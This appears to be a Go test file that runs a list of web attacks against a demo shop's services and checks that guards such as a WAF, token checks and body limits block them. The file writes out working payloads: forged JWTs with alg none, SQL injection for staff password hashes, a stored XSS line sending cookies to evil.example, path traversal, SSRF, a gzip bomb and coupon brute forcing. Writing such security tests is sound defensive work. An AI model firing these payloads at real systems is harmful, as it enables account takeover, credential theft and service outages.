package main

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
)

// callers lists attacks on who is asking: address, identity, access.
func callers() []attack {
	return []attack{
		{Hole: "ALL-17", Name: "call from a hostile network", Service: "catalogue", Guard: "address", Expect: []int{403}, From: hostile,
			Write:  one("", "GET", "/catalogue/products/3", ""),
			Effect: func(o outcome) bool { return shows(o, "Oak table") }},
		{Hole: "ALL-05", Name: "be carol by X-User, no token", Service: "orders", Guard: "identity", Expect: []int{401}, Effect: carol,
			Write: one("", "GET", "/shop/profile", "", "X-User: carol")},
		{Hole: "ALL-06", Name: "be carol by an unsigned token", Service: "orders", Guard: "identity", Expect: []int{401}, Effect: carol, Write: strippedToken},
		{Hole: "ALL-06", Name: "be carol by a changed token", Service: "orders", Guard: "identity", Expect: []int{401}, Effect: carol, Write: changedToken},
		{Hole: "CAT-05", Name: "a customer changes a price", Service: "catalogue", Guard: "access", Expect: []int{403},
			Write:  one("mallory", "PATCH", "/catalogue/products/3", `{"priceCents":1}`),
			Effect: func(o outcome) bool { return o.after.column("catalogue", "products", "id", "3", "price_cents") == "1" }},
		{Hole: "LOG-01", Name: "a customer ships an unpaid order", Service: "logistics", Guard: "access", Expect: []int{403},
			Write:  one("mallory", "POST", "/logistics/shipments", `{"orderId":1004,"carrier":"fastbox","address":"Mallory, 3 Side Street"}`),
			Effect: func(o outcome) bool { return more(o, "logistics", "shipments", map[string]string{"order_id": "1004"}) }},
		{Hole: "ORD-12", Name: "order with a token that may look", Service: "orders", Guard: "access", Expect: []int{403},
			Write:  one("wendy", "POST", "/shop/orders", `{"items":[{"productId":1,"quantity":1,"unitPriceCents":4900}]}`),
			Effect: func(o outcome) bool { return more(o, "orders", "orders", nil) }},
	}
}

// hostile is an address that the demo's document denies.
const hostile = "127.0.0.66"

// changedToken is mallory's own token with carol's name in it, its signature left as it was.
func changedToken(m message) ([][]byte, error) { return carolsToken(m, false) }

// strippedToken is the same, its header saying that nothing is signed (E1).
func strippedToken(m message) ([][]byte, error) { return carolsToken(m, true) }

func carolsToken(m message, unsigned bool) ([][]byte, error) {
	own, err := m.token("mallory")
	if err != nil {
		return nil, err
	}
	parts := strings.Split(own, ".")
	if len(parts) != 3 {
		return nil, fmt.Errorf("a token of %d parts is not a JWT", len(parts))
	}
	claims, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil {
		return nil, fmt.Errorf("claims of a token: %w", err)
	}
	parts[1] = base64.RawURLEncoding.EncodeToString(bytes.Replace(claims, []byte(`"mallory"`), []byte(`"carol"`), 1))
	if unsigned {
		parts[0] = base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none","typ":"at+jwt"}`))
	}
	raw, err := m.bytes("", "GET", "/shop/profile", "", "Authorization: Bearer "+strings.Join(parts, "."))
	return [][]byte{raw}, err
}

// contents lists attacks in what is said: contract, waf, and what the answer gives away.
func contents() []attack {
	return []attack{
		{Hole: "ORD-08", Name: "role in the own profile", Service: "orders", Guard: "contract", Expect: []int{400},
			Write: one("mallory", "PATCH", "/shop/profile", `{"displayName":"Mallory","role":"admin"}`),
			Effect: func(o outcome) bool {
				return o.after.column("orders", "customers", "subject", "mallory", "role") == "admin"
			}},
		{Hole: "ORD-03", Name: "a new order that is paid already", Service: "orders", Guard: "contract", Expect: []int{400},
			Write:  one("mallory", "POST", "/shop/orders", `{"items":[{"productId":3,"quantity":1,"unitPriceCents":39900}],"status":"paid"}`),
			Effect: func(o outcome) bool { return more(o, "orders", "orders", map[string]string{"status": "paid"}) }},
		{Hole: "ORD-05", Name: "minus forty rugs", Service: "orders", Guard: "contract", Expect: []int{400},
			Write:  one("mallory", "POST", "/shop/orders", `{"items":[{"productId":4,"quantity":-40,"unitPriceCents":18900}]}`),
			Effect: func(o outcome) bool { return more(o, "orders", "items", map[string]string{"quantity": "-40"}) }},
		{Hole: "CAT-09", Name: "a verified review by carol", Service: "catalogue", Guard: "contract", Expect: []int{400},
			Write:  one("mallory", "POST", "/catalogue/products/2/reviews", `{"stars":1,"text":"It broke.","author":"carol","verified":true}`),
			Effect: func(o outcome) bool { return more(o, "catalogue", "reviews", map[string]string{"author": "carol"}) }},
		{Hole: "CAT-07", Name: "cost price by ?debug=1", Service: "catalogue", Guard: "contract", Expect: []int{400},
			Write:  one("", "GET", "/catalogue/products/1?debug=1", ""),
			Effect: func(o outcome) bool { return shows(o, "cost_cents") }},
		{Hole: "CAT-08", Name: "hidden products by two limits", Service: "catalogue", Guard: "contract", Expect: []int{400},
			Write:  one("", "GET", "/catalogue/products?limit=5&limit=500", ""),
			Effect: func(o outcome) bool { return shows(o, "Prototype chair") }},
		{Hole: "ALL-09", Name: "JSON that says it is text", Service: "orders", Guard: "body", Expect: []int{415},
			Write: one("mallory", "PATCH", "/shop/profile", `{"email":"taken@evil.example"}`, "Content-Type: text/plain"),
			Effect: func(o outcome) bool {
				return o.after.count("orders", "customers", map[string]string{"email": "taken@evil.example"}) > 0
			}},
		{Hole: "CAT-01", Name: "password hashes by the search", Service: "catalogue", Guard: "waf", Expect: []int{403},
			Write: one("", "GET", "/catalogue/products?q="+
				escaped("x%' UNION SELECT id, email, password_hash FROM staff -- "), ""),
			Effect: func(o outcome) bool { return shows(o, "demo-hash-of-ada") }},
		{Hole: "CAT-02", Name: "a script in a review", Service: "catalogue", Guard: "waf", Expect: []int{403},
			Write: one("mallory", "POST", "/catalogue/products/1/reviews",
				`{"stars":5,"text":"<script>fetch('//evil.example/'+document.cookie)</script>"}`),
			Effect: func(o outcome) bool { return more(o, "catalogue", "reviews", map[string]string{"author": "mallory"}) }},
		{Hole: "CAT-10", Name: "a forged line in the log", Service: "catalogue", Guard: "waf", Expect: []int{403},
			Write: one("", "GET", "/catalogue/products?q="+escaped("lamp\r\nSet-Cookie: admin=1"), ""),
			Effect: func(o outcome) bool {
				return more(o, "catalogue", "log", map[string]string{"line": "Set-Cookie: admin=1"})
			}},
		{Hole: "INV-01", Name: "the provider's key by ../", Service: "invoice", Guard: "waf", Expect: []int{403},
			Write:  one("mallory", "GET", "/billing/invoices/501/file?file="+escaped("../paycard.env"), ""),
			Effect: func(o outcome) bool { return shows(o, "PROVIDER_KEY") }},
		{Hole: "LOG-03", Name: "the inner network by a callback", Service: "logistics", Guard: "waf", Expect: []int{403},
			Write: callback("127.0.0.1"), Effect: reachedInside},
		{Hole: "ALL-15", Name: "SQL in an error", Service: "catalogue", Guard: "waf", Expect: []int{502},
			Write: one("mallory", "POST", "/catalogue/products/999/reviews", `{"stars":3,"text":"No such product."}`),
			Effect: func(o outcome) bool {
				a := o.last()
				return a.Status >= 500 && containsAll(a.Body, "INSERT INTO", "goroutine")
			}},
		{Hole: "ALL-13", Name: "answer readable by a foreign page", Service: "catalogue", Guard: "cors", Expect: []int{200, 403}, Effect: foreign,
			Write: one("", "GET", "/catalogue/products/1", "", "Origin: https://evil.example")},
		{Hole: "ALL-14", Name: "product and version in the answer", Service: "catalogue", Guard: "headers", Expect: []int{200},
			Write: one("", "GET", "/catalogue/products/2", ""),
			Effect: func(o outcome) bool {
				h := o.last().Header
				return h.Get("X-Powered-By") != "" || strings.Contains(h.Get("Server"), "SQLite")
			}},
	}
}

// escaped percent-encodes a query value, a space as %20.
func escaped(s string) string { return strings.ReplaceAll(url.QueryEscape(s), "+", "%20") }

// callback asks logistics to call the orders service's admin page under another name for this machine.
func callback(host string) func(message) ([][]byte, error) {
	return func(m message) ([][]byte, error) {
		raw, err := m.bytes("mallory", "POST", "/logistics/shipments/601/callbacks", fmt.Sprintf(`{"url":"http://%s:%s/catalogue/debug/env"}`, host, m.inside))
		return [][]byte{raw}, err
	}
}

func reachedInside(o outcome) bool {
	for _, row := range o.after["logistics"]["callbacks"] {
		if strings.Contains(fmt.Sprint(row["first_answer"]), "SESSION_SECRET") {
			return true
		}
	}
	return false
}

// amounts lists attacks by too much: limits, and at last rate, for it makes its caller wait.
func amounts() []attack {
	kept := func(n int) func(outcome) bool {
		return func(o outcome) bool {
			return len(o.after.column("orders", "customers", "subject", "mallory", "preferences")) > n
		}
	}
	const levels = 500
	deep := `{"preferences":` + strings.Repeat(`{"a":`, levels) + "1" + strings.Repeat("}", levels+1)
	return []attack{
		{Hole: "ALL-11", Name: "a body of 2 MiB", Service: "orders", Guard: "limits", Expect: []int{413}, Effect: kept(1 << 20),
			Write: func(m message) ([][]byte, error) {
				return one("mallory", "PATCH", "/shop/profile", blob(2<<20))(m)
			}},
		{Hole: "ALL-12", Name: "JSON 500 levels deep", Service: "orders", Guard: "limits", Expect: []int{400, 413}, Effect: kept(levels * 5),
			Write: one("mallory", "PATCH", "/shop/profile", deep)},
		{Hole: "ALL-10", Name: "8 MiB packed into 8 KiB", Service: "orders", Guard: "limits", Expect: []int{413, 400}, Effect: kept(1 << 20),
			Write: func(m message) ([][]byte, error) {
				return one("mallory", "PATCH", "/shop/profile", packed(blob(8<<20)), "Content-Encoding: gzip")(m)
			}},
		{Hole: "ORD-06", Name: "guess a gift coupon", Service: "orders", Guard: "rate", Expect: []int{429}, Workers: 8, Write: guesses,
			Effect: func(o outcome) bool { return more(o, "orders", "credits", map[string]string{"code": "GIFT-0347"}) }},
	}
}

func blob(n int) string { return `{"preferences":{"blob":"` + strings.Repeat("a", n) + `"}}` }

func packed(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	if _, err := w.Write([]byte(s)); err != nil {
		panic(err) // a bytes.Buffer takes everything
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.String()
}

// guesses tries four hundred coupon codes; number 347 is worth fifty euros.
func guesses(m message) ([][]byte, error) {
	var all [][]byte
	for i := range 400 {
		raw, err := m.bytes("trudy", "POST", "/shop/coupons/redemptions", fmt.Sprintf(`{"code":"GIFT-%04d"}`, i))
		if err != nil {
			return nil, err
		}
		all = append(all, raw)
	}
	return all, nil
}
